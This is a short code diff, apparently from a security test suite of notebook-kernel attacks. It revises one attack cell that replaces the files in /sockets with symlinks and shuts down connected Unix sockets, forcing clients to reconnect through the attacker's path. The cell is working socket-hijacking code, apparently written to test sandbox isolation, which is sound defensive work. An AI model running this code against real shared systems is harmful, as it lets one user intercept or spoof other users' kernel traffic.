@@ -179,16 +179,21 @@ for number in range(3, 64):
         "sockets, symlinks, spoofed frames",
         "stock's kernels listen on TCP",
         cell="""
-import glob, os, socket, stat
+import glob, os, socket, time
 for path in glob.glob('/sockets/*'):
     os.unlink(path)
     os.symlink(f'{LOOT}/../{ME}', path)
 for number in map(int, os.listdir('/proc/self/fd')):
     try:
-        if stat.S_ISSOCK(os.fstat(number).st_mode):
-            socket.socket(fileno=number).shutdown(socket.SHUT_RDWR)
+        one = socket.socket(fileno=os.dup(number))
+        # libzmq ends the process when a socket that listens is shut down.
+        listens = one.getsockopt(socket.SOL_SOCKET, socket.SO_ACCEPTCONN)
+        if one.family == socket.AF_UNIX and str(one.getsockname()).startswith('/sockets') and not listens:
+            one.shutdown(socket.SHUT_RDWR)
     except OSError:
         pass
+# Whoever was connected comes back within this time.
+time.sleep(2)
 """,
     ),
     Attack(
